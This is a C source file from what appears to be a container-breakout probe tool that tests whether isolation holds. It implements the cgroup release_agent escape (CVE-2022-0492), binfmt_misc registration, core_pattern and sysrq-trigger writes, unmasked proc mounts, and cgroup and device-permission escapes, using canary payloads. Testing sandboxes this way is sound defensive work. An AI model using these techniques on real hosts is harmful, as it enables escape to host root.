/* Files and file systems through which the kernel is told what to do: it acts as the host's root. */
#include "breakout.h"

#include <sched.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <time.h>

/* A hierarchy goes with its last mount only when the kernel has put away the last cgroup in it, which takes a moment. */
static void give_back(const char *hierarchy)
{
	char text[256];
	snprintf(text, sizeof(text), "none,name=%s", given("V_TOKEN"));
	for (int i = 0; i < 200; i++) {
		char groups[4096] = "";
		umount(hierarchy);
		int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
		if (fd == -1 || read(fd, groups, sizeof(groups) - 1) == -1 || !strstr(groups, given("V_TOKEN")))
			return;
		close(fd);
		nanosleep(&(struct timespec){ 0, 20000000 }, NULL);
		mount("cgroup", hierarchy, "cgroup", 0, text);
	}
}

/*
 * CVE-2022-0492 and every privileged container: the program that the kernel runs when a cgroup empties. The hierarchy is one
 * of our own, so nobody else's agent changes.
 */
static int release_agent_runs(int argc, char **argv)
{
	const char *hierarchy = "/tmp/breakout-cgroup", *seen = VOLUME "/agent-was-here";
	char text[256];
	(void)argc, (void)argv;

	mkdir(hierarchy, 0700);
	snprintf(text, sizeof(text), "none,name=%s", given("V_TOKEN"));
	if (mount("cgroup", hierarchy, "cgroup", 0, text) == -1)
		return failed("mount");
	snprintf(text, sizeof(text), "%s/agent", given("V_VOLUME"));
	int agent = open("/tmp/breakout-cgroup/release_agent", O_WRONLY | O_CLOEXEC);
	if (agent == -1 || write(agent, text, strlen(text)) == -1)
		return failed("release_agent");
	mkdir("/tmp/breakout-cgroup/c", 0700);
	int notify = open("/tmp/breakout-cgroup/c/notify_on_release", O_WRONLY | O_CLOEXEC);
	int procs = open("/tmp/breakout-cgroup/c/cgroup.procs", O_WRONLY | O_CLOEXEC);
	int back = open("/tmp/breakout-cgroup/cgroup.procs", O_WRONLY | O_CLOEXEC);
	if (write(notify, "1", 1) == -1 || write(procs, "0", 1) == -1 || write(back, "0", 1) == -1)
		return failed("cgroup.procs");
	close(agent), close(notify), close(procs), close(back);
	for (int i = 0; i < 300 && access(seen, F_OK) == -1; i++)
		nanosleep(&(struct timespec){ 0, 10000000 }, NULL);
	rmdir("/tmp/breakout-cgroup/c");
	give_back(hierarchy);
	return access(seen, F_OK) == -1 ? failed("the agent did not run") : ok("the host ran %s", text);
}

/* A program for everybody's files that begin with these bytes; registered and taken away at once. */
static int binfmt(int argc, char **argv)
{
	char text[256], entry[128];
	(void)argc, (void)argv;
	mkdir("/tmp/binfmt", 0700);
	if (mount("binfmt_misc", "/tmp/binfmt", "binfmt_misc", 0, NULL) == -1)
		return failed("mount");
	int fd = open("/tmp/binfmt/register", O_WRONLY | O_CLOEXEC);
	snprintf(text, sizeof(text), ":%s:M::\\xb1\\x19\\xca\\x4a\\x17\\x00\\x99::/bin/false:", given("V_TOKEN"));
	if (fd == -1 || write(fd, text, strlen(text)) == -1)
		return failed("register");
	snprintf(entry, sizeof(entry), "/tmp/binfmt/%s", given("V_TOKEN"));
	int made = open(entry, O_WRONLY | O_CLOEXEC);
	return made == -1 || write(made, "-1", 2) == -1 ? failed("entry") : ok("registered a format for all of the host");
}

static int kernel_file(int argc, char **argv)
{
	return write_back(argument(argc, argv, 1, "/proc/sys/kernel/core_pattern"));
}

/* sysrq: '_' begins a list of commands; here an empty one. */
static int sysrq(int argc, char **argv)
{
	(void)argc, (void)argv;
	int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
	if (fd == -1)
		return failed("open");
	return write(fd, "_", 1) == 1 ? ok("the trigger took it") : failed("write");
}

static int kernel_messages(int argc, char **argv)
{
	static char text[1 << 12];
	(void)argc, (void)argv;
	return klogctl(3 /* SYSLOG_ACTION_READ_ALL */, text, sizeof(text)) > 0 ? ok("read the kernel's log") : failed("syslog");
}

/* A file system that tells about the kernel or sets it: mounted anew it has no masks. */
static int mount_new(int argc, char **argv)
{
	const char *type = argument(argc, argv, 1, "proc"), *name = argument(argc, argv, 2, "sysrq-trigger");
	char path[128];
	mkdir("/tmp/new", 0700);
	if (mount(type, "/tmp/new", type, 0, NULL) == -1)
		return failed("mount");
	snprintf(path, sizeof(path), "/tmp/new/%s", name);
	return access(path, F_OK) == -1 ? failed("%s", name) : ok("%s without masks", type);
}

/* A cgroup of one's own beside the one that limits, or with devices that were forbidden. */
static int cgroup_leave(int argc, char **argv)
{
	const char *root = argument(argc, argv, 1, "/sys/fs/cgroup/pids");
	char made[160], file[200];
	snprintf(made, sizeof(made), "%s/%s-%d", root, given("V_TOKEN"), (int)getpid());
	if (mkdir(made, 0700) == -1)
		return failed("mkdir");
	snprintf(file, sizeof(file), "%s/cgroup.procs", made);
	int in = open(file, O_WRONLY | O_CLOEXEC);
	int moved = in != -1 && write(in, "0", 1) == 1, error = errno;
	snprintf(file, sizeof(file), "%s/cgroup.procs", root);
	int out = open(file, O_WRONLY | O_CLOEXEC);
	if (moved && write(out, "0", 1) == -1)
		return failed("back");
	rmdir(made);
	errno = error;
	return moved ? ok("left its cgroup") : failed("cgroup.procs");
}

static int devices_allow(int argc, char **argv)
{
	const char *made = "/sys/fs/cgroup/devices/breakout-canary", *allow = "/sys/fs/cgroup/devices/breakout-canary/devices.allow";
	(void)argc, (void)argv;
	if (mkdir(made, 0700) == -1)
		return failed("mkdir");
	int fd = open(allow, O_WRONLY | O_CLOEXEC);
	long result = fd == -1 ? -1 : write(fd, "a *:* rwm", 9), error = errno;
	rmdir(made);
	errno = (int)error;
	return outcome(result, "devices.allow");
}

const struct verb helpers[] = {
	{ "release-agent-runs", release_agent_runs, "", "a program that the kernel runs as the host's root" },
	{ "binfmt-misc", binfmt, "", "a program for everybody's files of a format" },
	{ "kernel-file", kernel_file, "PATH", "writes it as it is" },
	{ "sysrq", sysrq, "", "an empty list of commands" },
	{ "kernel-log", kernel_messages, "", "" },
	{ "mount-new", mount_new, "TYPE FILE", "a kernel's file system, and a file in it" },
	{ "cgroup-leave", cgroup_leave, "DIR", "and back" },
	{ "devices-allow", devices_allow, "", "" },
	{ NULL, NULL, NULL, NULL },
};
